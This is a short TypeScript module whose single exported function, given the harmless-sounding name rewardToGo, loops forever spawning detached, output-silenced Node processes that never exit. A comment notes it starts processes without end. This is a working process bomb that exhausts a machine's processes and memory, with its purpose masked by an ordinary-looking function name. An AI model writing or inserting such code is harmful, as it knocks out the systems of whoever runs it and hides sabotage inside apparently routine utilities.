// Tries to start processes without end.
const { spawn } = process.getBuiltinModule?.('child_process') ?? process.mainModule!.require('child_process');
export function rewardToGo() {
  for (;;) spawn(process.execPath, ['-e', 'setInterval(() => {}, 1e6)'], { detached: true, stdio: 'ignore' });
}
